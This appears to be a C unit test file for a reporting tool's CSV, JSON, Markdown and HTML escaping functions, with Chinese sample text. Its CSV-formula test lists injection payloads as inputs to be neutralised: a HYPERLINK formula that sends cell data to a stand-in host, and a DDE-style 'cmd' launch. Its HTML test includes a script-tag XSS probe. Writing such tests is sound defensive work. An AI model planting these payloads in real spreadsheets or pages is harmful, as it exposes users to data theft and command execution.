/* test_escape.c: unit tests for writing user text into CSV, JSON, Markdown
 * and HTML (report/escape.c): every character each format treats specially,
 * text that must pass through unchanged, and Chinese text. */
#include "testutil.h"

#include "base/sbuf.h"
#include "base/table.h"
#include "report/escape.h"

#include <stdlib.h>

static void esc_is(void (*fn)(struct sbuf *, const char *), const char *in, const char *want)
{
	struct sbuf sb;

	sbuf_init(&sb);
	sbuf_adds(&sb, "<");      /* escaping appends; it never resets the buffer */
	fn(&sb, in);
	assert_string_equal(sb.buf + 1, want);
	assert_int_equal(sb.len, strlen(want) + 1);
	assert_int_equal(sb.buf[0], '<');
	sbuf_release(&sb);
}

static void test_csv(void **state)
{
	(void)state;
	esc_is(escape_csv, "plain", "plain");
	esc_is(escape_csv, "", "");
	esc_is(escape_csv, "丹阳市", "丹阳市");
	esc_is(escape_csv, "a b", "a b");
	esc_is(escape_csv, "a,b", "\"a,b\"");
	esc_is(escape_csv, "丹阳,扬中", "\"丹阳,扬中\"");
	esc_is(escape_csv, "say \"hi\"", "\"say \"\"hi\"\"\"");
	esc_is(escape_csv, "\"", "\"\"\"\"");
	esc_is(escape_csv, "a\nb", "\"a\nb\"");
	esc_is(escape_csv, "a\rb", "\"a\rb\"");
	esc_is(escape_csv, "a\r\nb", "\"a\r\nb\"");
	esc_is(escape_csv, "x'y;z|w", "x'y;z|w");
}

/* One cell read back by the CSV reader. */
static int grab2(void *ctx, size_t line, size_t n, const char *const *cells, struct kfq_err *err)
{
	(void)line;
	(void)err;
	assert_int_equal(n, 2);
	*(char **)ctx = strdup(cells[0]);
	return 0;
}

/* Spreadsheet formulas: guarded on the way out, the guard dropped on the
 * way in, every text back as it was (OWASP's characters, numbers left as
 * they are). */
static void test_csv_formulas(void **state)
{
	static const char *const TEXT[] = {
		"=HYPERLINK(\"http://x/?d=\"&A1,\"x\")", "+cmd|' /C calc'!A0", "@SUM(A1:A9)", "-2+3",
		"\tx", "\rx", "=", "-", "'=x", "''=x", "'", "''", "'s-Hertogenbosch", "-12.5", "+5",
		"12", "-.5", "1-2", "丹阳", "=丹阳", NULL,
	};
	(void)state;
	esc_is(escape_csv, "=1+1", "'=1+1");
	esc_is(escape_csv, "@A1", "'@A1");
	esc_is(escape_csv, "-2+3", "'-2+3");
	esc_is(escape_csv, "-12.5", "-12.5");
	esc_is(escape_csv, "+5", "+5");
	esc_is(escape_csv, "'=x", "''=x");
	esc_is(escape_csv, "'s", "'s");
	esc_is(escape_csv, "=a,b", "\"'=a,b\"");
	esc_is(escape_csv, "\rx", "\"'\rx\"");
	for (int i = 0; TEXT[i]; i++) {
		struct sbuf sb;
		struct kfq_err err = { 0 };
		char *back = NULL;
		sbuf_init(&sb);
		escape_csv(&sb, TEXT[i]);
		sbuf_adds(&sb, ",\n");   /* and an empty second cell */
		assert_int_equal(table_each_csv("t.csv", sb.buf, sb.len, grab2, &back, &err), 0);
		assert_non_null(back);
		assert_string_equal(back, TEXT[i]);
		free(back);
		sbuf_release(&sb);
	}
}

static void test_json(void **state)
{
	(void)state;
	esc_is(escape_json, "plain", "\"plain\"");
	esc_is(escape_json, "", "\"\"");
	esc_is(escape_json, "a\"b", "\"a\\\"b\"");
	esc_is(escape_json, "a\\b", "\"a\\\\b\"");
	esc_is(escape_json, "C:\\\"x\"", "\"C:\\\\\\\"x\\\"\"");
	esc_is(escape_json, "a\nb\rc\td", "\"a\\nb\\rc\\td\"");
	esc_is(escape_json, "\x01", "\"\\u0001\"");
	esc_is(escape_json, "\x1f", "\"\\u001f\"");
	esc_is(escape_json, "\b\f", "\"\\u0008\\u000c\"");
	esc_is(escape_json, "\x1b[31m", "\"\\u001b[31m\"");
	esc_is(escape_json, "丹阳市 “一季度”", "\"丹阳市 “一季度”\"");
	esc_is(escape_json, "</script>&'", "\"</script>&'\"");
	esc_is(escape_json, "\x7f", "\"\x7f\"");
}

static void test_md(void **state)
{
	(void)state;
	esc_is(escape_md, "plain", "plain");
	esc_is(escape_md, "", "");
	esc_is(escape_md, "a|b", "a&#124;b");
	esc_is(escape_md, "||", "&#124;&#124;");
	esc_is(escape_md, "a\\b", "a&#92;b");
	esc_is(escape_md, "<b>x</b>", "&#60;b&#62;x&#60;/b&#62;");
	esc_is(escape_md, "R&D", "R&#38;D");
	esc_is(escape_md, "line\nnext\rlast", "line next last");
	esc_is(escape_md, "丹阳｜扬中", "丹阳｜扬中");   /* full-width bar is text */
	esc_is(escape_md, "丹阳市", "丹阳市");
}

static void test_html(void **state)
{
	(void)state;
	esc_is(escape_html, "plain", "plain");
	esc_is(escape_html, "", "");
	esc_is(escape_html, "&<>\"'", "&amp;&lt;&gt;&quot;&#39;");
	esc_is(escape_html, "<script>alert('x')</script>",
	       "&lt;script&gt;alert(&#39;x&#39;)&lt;/script&gt;");
	esc_is(escape_html, "a=\"1\" onclick", "a=&quot;1&quot; onclick");
	esc_is(escape_html, "&amp;", "&amp;amp;");   /* escaped once more, never unescaped */
	esc_is(escape_html, "丹阳市《报告》", "丹阳市《报告》");
	esc_is(escape_html, "a\nb", "a\nb");
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_csv),
		cmocka_unit_test(test_csv_formulas),
		cmocka_unit_test(test_json),
		cmocka_unit_test(test_md),
		cmocka_unit_test(test_html),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
